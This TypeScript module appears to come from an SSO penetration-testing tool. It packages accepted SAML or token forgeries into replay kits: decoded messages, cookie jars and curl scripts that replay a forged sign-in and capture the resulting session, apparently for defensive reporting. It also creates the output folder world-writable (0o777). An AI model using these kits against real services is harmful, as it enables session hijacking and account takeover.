import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { makeFolder } from '../../core/store/make-folder.ts'
import type { Delivery, HeldCookie } from './browser.ts'

/** The files of one accepted forgery and the command that sends it again. */
export interface ReplayKit {
  /** Paths of the files written, relative to the out folder (`forged/<case>.xml`…). */
  files: string[]
  /** A curl command line that sends the same message to the same URL. */
  command: string
  /** Never delivered: made again after the finding, for the kit (false: the message the SP used). */
  fresh: boolean
}

/**
 * Writes a message for an accepted forgery into `<outDir>/forged/`, so the finding can go into
 * the SP team's ticket as it is: a SAML Response as `<case>.xml` (decoded) and `<case>.b64` (as
 * posted), a token as `<case>.jwt`, the cookies of the SP's request as `<case>.cookies` (a curl
 * cookie jar), and the curl line that delivers it with those cookies and follows the SP to its
 * page (`<case>.curl.sh`; the jar then holds the session the SP opened). The command reads the
 * files by absolute path. These files hold a working forged sign-in for the SP attacked: they are
 * the point of the kit, and they stay in the out folder.
 */
export async function writeReplayKit(
  outDir: string,
  caseId: string,
  delivery: Delivery,
  state: { cookies: HeldCookie[]; fresh: boolean },
): Promise<ReplayKit> {
  const folder = join(outDir, 'forged')
  makeFolder(folder, 0o777)
  const name = caseId.replace(/[^A-Za-z0-9._-]/g, '_')
  const files: string[] = []
  const write = async (extension: string, content: string) => {
    await writeFile(join(folder, `${name}${extension}`), content, { mode: 0o600 })
    files.push(`forged/${name}${extension}`)
    return join(folder, `${name}${extension}`)
  }
  const form = delivery.form ?? {}
  const dataArgs: string[] = []
  for (const [field, value] of Object.entries(form)) {
    if (field === 'SAMLResponse') {
      const b64 = await write('.b64', value)
      await write('.xml', Buffer.from(value, 'base64').toString('utf8'))
      dataArgs.push(`--data-urlencode ${quote(`SAMLResponse@${b64}`)}`)
    } else {
      if (field === 'id_token' || field === 'token') await write('.jwt', value)
      dataArgs.push(`--data-urlencode ${quote(`${field}=${value}`)}`)
    }
  }
  const token = tokenInUrl(delivery.url)
  if (token) await write('.jwt', token)
  const jar = await write('.cookies', cookieJar(state.cookies))
  // --data makes it a POST that turns into a GET at the SP's redirect, as a browser's does.
  const command = `curl -si -L -b ${quote(jar)} -c ${quote(jar)} ${delivery.method === 'POST' ? `${dataArgs.join(' ')} ` : ''}${quote(delivery.url)}`
  const when = state.fresh
    ? '# Never delivered: made for this kit with a fresh request of the SP (its cookies in the jar).\n# Replay it once, before the message expires (NotOnOrAfter), to the same SP process.'
    : '# The message the SP accepted during the attack: an SP with a replay cache refuses it again.'
  await write(
    '.curl.sh',
    `#!/bin/sh\n# ssoproof attack: ${caseId}\n${when}\n# Then the jar holds the SP session: curl -s -b ${quote(jar)} <SP page>\n${command}\n`,
  )
  return { files, command, fresh: state.fresh }
}

/** The cookies in curl's cookie-jar format (Netscape): domain, subdomains, path, secure, expiry, name, value. */
function cookieJar(cookies: HeldCookie[]): string {
  const lines = cookies.map((cookie) =>
    [
      cookie.domain,
      'FALSE',
      cookie.path,
      cookie.secure ? 'TRUE' : 'FALSE',
      '0',
      cookie.name,
      cookie.value,
    ].join('\t'),
  )
  return `# Netscape HTTP Cookie File\n${lines.map((line) => `${line}\n`).join('')}`
}

function tokenInUrl(url: string): string | undefined {
  try {
    return new URL(url).searchParams.get('token') ?? undefined
  } catch {
    return undefined
  }
}

/** One shell word in single quotes. */
function quote(word: string): string {
  return `'${word.replaceAll("'", `'\\''`)}'`
}
